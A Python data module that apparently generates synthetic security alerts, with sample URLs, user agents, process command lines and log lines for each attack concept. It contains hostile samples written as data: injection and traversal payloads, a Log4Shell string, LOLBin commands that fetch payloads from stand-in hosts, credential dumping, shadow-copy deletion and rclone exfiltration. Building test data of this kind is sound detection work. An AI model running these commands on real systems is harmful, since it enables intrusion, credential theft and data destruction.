"""What stands in an alert besides rule and addresses: requests, names, command lines, log lines."""

from typing import Final

# Concept → request paths; {} is a small number. All others: _PATHS.
REQUESTS: Final[dict[str, tuple[str, ...]]] = {
    "web.attack": (
        "/shop/item?id={}%27%20UNION%20SELECT%201,2,3--",
        "/download?file=../../../../etc/passwd",
        "/search?q=%3Cscript%3Ealert({})%3C/script%3E",
        "/ping?host=127.0.0.1;id",
    ),
    "web.shell": (
        "/uploads/img-{}.php?cmd=id",
        "/wp-content/plugins/cache/x-{}.php",
        "/aspnet_client/a-{}.aspx",
    ),
    "exploit": (
        "/?x=${{jndi:ldap://x-{}.example/a}}",
        "/cgi-bin/status",
        "/autodiscover/a-{}.json",
        "/HNAP1/",
    ),
    "scan.web": ("/.env", "/.git/config", "/phpmyadmin/setup.php", "/backup-{}.zip", "/wp-login.php"),
    "malware.download": ("/files/update-{}.exe", "/pay/load-{}.bin", "/doc-{}.hta", "/s/{}.ps1"),
    "phish.visit": ("/office/login-{}.html", "/owa/auth/verify?id={}", "/webmail/signin"),
    "lateral.exec": ("/wsman",),
    "policy.cleartext": ("/wp-login.php", "/admin/login"),
    "agent.update": ("/ubuntu/dists/noble/InRelease", "/packages/package-{}/", "/repo/repodata/repomd.xml"),
}
_PATHS: Final = ("/", "/index.html", "/api/v1/items/{}", "/status", "/static/app-{}.js")
AGENTS: Final[dict[str, tuple[str, ...]]] = {
    "scan.web": (
        "Mozilla/5.00 (Nikto/2.5.0)",
        "sqlmap/1.8",
        "gobuster/3.6",
        "WPScan v3.8",
        "Nmap Scripting Engine",
    ),
    "agent.update": ("Debian APT-HTTP/1.3 (2.7)", "pip/24.0", "curl/8.5.0", "python-requests/2.32"),
    "malware.download": ("Mozilla/5.0 (Windows NT; WindowsPowerShell/5.1)", "curl/8.5.0", "Mozilla/4.0"),
}
_AGENTS: Final = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
)
# Concept → (image, parent image, command line).
PROCESSES: Final[dict[str, tuple[tuple[str, str, str], ...]]] = {
    "macro": (("cmd.exe", "WINWORD.EXE", "cmd.exe /c start wscript.exe a-{}.js"),),
    "script": (
        ("powershell.exe", "cmd.exe", "powershell.exe -nop -w hidden -enc SQBFAFgA={}"),
        ("powershell.exe", "explorer.exe", "powershell.exe -File C:\\Scripts\\job-{}.ps1"),
        ("mshta.exe", "explorer.exe", "mshta.exe http://x-{}.example/a.hta"),
    ),
    "lolbin": (
        ("certutil.exe", "cmd.exe", "certutil.exe -urlcache -f http://x-{}.example/a.txt a.exe"),
        ("rundll32.exe", "cmd.exe", "rundll32.exe C:\\Users\\Public\\a-{}.dll,Start"),
        ("regsvr32.exe", "cmd.exe", "regsvr32.exe /s /u /i:http://x-{}.example/a.sct scrobj.dll"),
    ),
    "discovery": (
        ("net.exe", "cmd.exe", 'net group "Domain Admins" /domain'),
        ("nltest.exe", "cmd.exe", "nltest.exe /domain_trusts"),
        ("whoami.exe", "cmd.exe", "whoami.exe /all"),
    ),
    "cred.dump": (
        ("rundll32.exe", "cmd.exe", "rundll32.exe comsvcs.dll,MiniDump {} out.dmp full"),
        ("reg.exe", "cmd.exe", "reg.exe save HKLM\\SAM sam-{}.hiv"),
    ),
    "collect": (("rar.exe", "cmd.exe", "rar.exe a -hp out-{}.rar C:\\Share"),),
    "exfil": (("rclone.exe", "cmd.exe", "rclone.exe copy C:\\Share remote-{}:"),),
    "miner.process": (("xmrig", "sh", "./xmrig -o pool-{}.example:3333"),),
    "backup.gone": (
        ("vssadmin.exe", "cmd.exe", "vssadmin.exe delete shadows /all /quiet"),
        ("bcdedit.exe", "cmd.exe", "bcdedit.exe /set recoveryenabled no"),
    ),
    "malware.download": (("powershell.exe", "explorer.exe", "powershell.exe iwr http://x-{}.example/a.exe"),),
    "lateral.exec": (("wsmprovhost.exe", "svchost.exe", "wsmprovhost.exe -Embedding"),),
    "persist": (("reg.exe", "cmd.exe", "reg.exe add HKCU\\Software\\Run /v upd-{} /d a.exe"),),
    "task": (("schtasks.exe", "cmd.exe", "schtasks.exe /create /tn job-{} /sc hourly"),),
}
# Concept → (decoder, log file, line); the line knows user, peer, port and pid.
LOGS: Final[dict[str, tuple[str, str, str]]] = {
    "auth.success": (
        "sshd",
        "/var/log/auth.log",
        "sshd[{pid}]: Accepted password for {user} from {peer} port {port} ssh2",
    ),
    "auth.fail": (
        "sshd",
        "/var/log/auth.log",
        "sshd[{pid}]: Failed password for {user} from {peer} port {port} ssh2",
    ),
    "auth.unknown_user": (
        "sshd",
        "/var/log/auth.log",
        "sshd[{pid}]: Invalid user {user} from {peer} port {port}",
    ),
    "auth.brute": (
        "sshd",
        "/var/log/auth.log",
        "sshd[{pid}]: Failed password for {user} from {peer} port {port} ssh2",
    ),
    "session": ("pam", "/var/log/auth.log", "pam_unix(sshd:session): session for user {user}"),
    "sudo": (
        "sudo",
        "/var/log/auth.log",
        "sudo: {user} : TTY=pts/0 ; PWD=/home ; USER=root ; COMMAND=/bin/systemctl",
    ),
    "web.error": (
        "web-accesslog",
        "/var/log/apache2/access.log",
        '{peer} - - "GET /favicon.ico HTTP/1.1" 404 0',
    ),
    "web.errors_many": (
        "web-accesslog",
        "/var/log/apache2/access.log",
        '{peer} - - "GET /admin HTTP/1.1" 403 0',
    ),
    "web.attack": (
        "web-accesslog",
        "/var/log/apache2/access.log",
        '{peer} - - "GET /?id=1%27-- HTTP/1.1" 200 0',
    ),
    "web.shell": ("auditd", "/var/log/audit/audit.log", 'type=EXECVE comm="sh" exe="/bin/dash" uid=33'),
    "service.state": ("systemd", "/var/log/syslog", "systemd[1]: unit of {user} changed state"),
    "package": ("dpkg", "/var/log/dpkg.log", "status installed package amd64"),
    "av.update": ("clamd", "/var/log/clamav/freshclam.log", "daily database updated"),
    "av.found": ("clamd", "/var/log/clamav/clamav.log", "/home/{user}/download.bin: FOUND"),
}


def path_of(concept: str, shade: float) -> str:
    return _one(REQUESTS.get(concept, _PATHS), shade).format(int(shade * 97))


def agent_of(concept: str, shade: float) -> str:
    return _one(AGENTS.get(concept, _AGENTS), shade)


def query_of(concept: str, title: str, shade: float) -> str:
    """Return the DNS name asked for; generated and tunnelled ones look so."""
    number = int(shade * 1e15)
    if concept == "dns.tunnel":
        return f"{number:030x}{number * 7919:024x}.t{number % 7}.example"
    if concept == "dns.generated":
        return "".join("bcdfghjklmnpqrstvwxz"[number // 20**i % 20] for i in range(11)) + ".example"
    if concept == "miner.pool":
        return f"pool-{number % 9}.example"
    suffix = title.partition(".")[2].partition(" ")[0] or "example"
    return f"site-{number % 400}.{suffix}"


def _one(options: tuple[str, ...], shade: float) -> str:
    return options[int(shade * 9973) % len(options)]
